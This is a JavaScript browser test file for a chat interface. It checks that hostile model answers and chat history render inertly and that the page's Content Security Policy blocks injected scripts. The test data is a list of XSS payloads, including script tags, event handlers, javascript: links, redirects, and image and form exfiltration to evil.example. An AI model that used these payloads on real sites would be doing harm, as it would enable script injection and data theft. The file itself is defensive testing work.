// Whatever a model writes is text: it runs nothing, loads nothing and leads nowhere but where the reader goes.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { answerOf, ask, assertFaultless, putIntoMouth, startBrowser } from './browser.mjs';

let browser;
before(async () => {
  browser = await startBrowser();
});
after(() => browser?.close());

const kAttacks = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 2">',
  '<svg onload="window.hit = 3"><script>window.hit = 4</script></svg>',
  '<iframe srcdoc="<script>parent.hit = 5</script>"></iframe>',
  '[click me](javascript:window.hit=6)',
  '[click me]( java\tscript:window.hit=7)',
  '[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click me](vbscript:hit)',
  '[click me](&#106;avascript:window.hit=8)',
  '![secret](https://evil.example/leak?text=secret)',
  '![x](x "onerror=window.hit=9")',
  '[a](https://example.org" onmouseover="window.hit=10)',
  '<a href="https://example.org" onclick="window.hit=11" style="position:fixed;inset:0">all of the page</a>',
  '<style>* { display: none }</style>',
  '<form action="https://evil.example"><input name=key><button>Send</button></form>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=12>',
  '```js"onmouseover="window.hit=13\nalert(1)\n```',
  '```<img src=x onerror=window.hit=14>\nx\n```',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '| <img src=x onerror=window.hit=15> | b |\n|---|---|\n| [x](javascript:window.hit=16) | <script>window.hit=17</script> |',
];

test('a hostile answer does nothing', async () => {
  const page = await browser.open();
  await putIntoMouth(page, kAttacks.join('\n\n'), `Let me think <img src=x onerror="window.hit = 18">`);
  await ask(page, '<img src=x onerror="window.hit = 19">');
  await answerOf(page);
  await page.locator('details.reasoning summary').click();
  for (const link of await page.locator('.answer a').all()) await link.hover();
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => window.hit), undefined);
  const found = await page.locator('.answer').evaluate((answer) => {
    const all = [...answer.querySelectorAll('.markdown *')];
    return {
      tags: [...new Set(all.map((e) => e.localName))],
      handlers: all.flatMap((e) => e.getAttributeNames()).filter((name) => /^on|^style$|^src/.test(name)),
      links: all.filter((e) => e.hasAttribute('href')).map((e) => [e.href, e.target, e.rel]),
    };
  });
  for (const tag of ['script', 'img', 'iframe', 'style', 'form', 'input', 'svg', 'base', 'meta', 'object', 'math'])
    assert.ok(!found.tags.includes(tag), tag);
  assert.deepEqual(found.handlers, []);
  for (const [href, target, rel] of found.links) {
    assert.match(href, /^https:\/\//);
    assert.equal(target, '_blank');
    assert.equal(rel, 'noopener noreferrer');
  }
  const text = await page.locator('.answer').innerText();
  assert.ok(text.includes('<script>window.hit = 1</script>'), 'what was written can be read');
  assertFaultless(page);
});

test('a hostile chat from the history does nothing either', async () => {
  const page = await browser.open();
  await putIntoMouth(page, kAttacks.join('\n\n'));
  await ask(page, '<b>Title</b><img src=x onerror="window.hit = 20">');
  await answerOf(page);
  await page.reload();
  await page.locator('.chat-link').click();
  await page.locator('.answer').waitFor();
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => window.hit), undefined);
  assertFaultless(page);
});

test('the policy of the page stops what would get through', async () => {
  const page = await browser.open();
  await page.locator('.openings').waitFor();
  await page.evaluate(() => {
    const image = document.createElement('div');
    image.innerHTML = '<img src="x" onerror="window.hit = 21">';
    const script = document.createElement('script');
    script.textContent = 'window.hit = 22';
    document.body.append(image, script);
  });
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => window.hit), undefined);
  assert.ok(page.faults.some((fault) => fault.includes('Content Security Policy')), 'and says so');
  const leak = await page.evaluate(() => fetch('https://evil.example/').then(() => 'sent', () => 'stopped'));
  assert.equal(leak, 'stopped');
});

test('a page of a stranger cannot use the server', async () => {
  const page = await browser.open();
  const answer = await page.evaluate(async (url) => {
    const frame = document.createElement('iframe');
    frame.sandbox = 'allow-scripts';
    document.body.append(frame);
    return fetch(`${url.replace('127.0.0.1', 'localhost')}/v1/models`).then(() => 'read', () => 'refused');
  }, browser.troika.url);
  assert.equal(answer, 'refused');
});
